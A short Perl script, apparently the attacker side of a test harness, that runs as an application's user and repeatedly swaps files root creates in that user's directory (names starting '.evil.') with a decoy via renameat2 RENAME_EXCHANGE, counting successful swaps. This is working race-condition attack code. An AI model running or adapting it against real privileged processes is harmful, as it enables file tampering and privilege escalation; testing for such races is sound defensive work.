#!/usr/bin/perl
# The application's own user, against files that root makes in the user's directory: exchanges each new one with a file of its own, in a
# loop, until it is ended. Prints how many it has exchanged.
#   steal.pl DIRECTORY
use strict;
use warnings;
use POSIX ();

my ($directory) = @ARGV;
my ($renameat2, $AT_FDCWD, $EXCHANGE) = ({ x86_64 => 316, aarch64 => 276 }->{ (POSIX::uname())[4] }, -100, 2);
my ($decoy, %seen) = '.decoy';
$SIG{TERM} = sub { print scalar(keys %seen), "\n"; exit 0 };
chdir $directory or die "$directory: $!\n";
while (1) {
    opendir my $names, '.' or next;
    for my $name (grep { /\A\.evil\./ } readdir $names) {
        for (1 .. 200) {
            syscall($renameat2, $AT_FDCWD, "$name", $AT_FDCWD, "$decoy", $EXCHANGE) == 0 or last;
            $seen{$name} = 1;
        }
    }
}
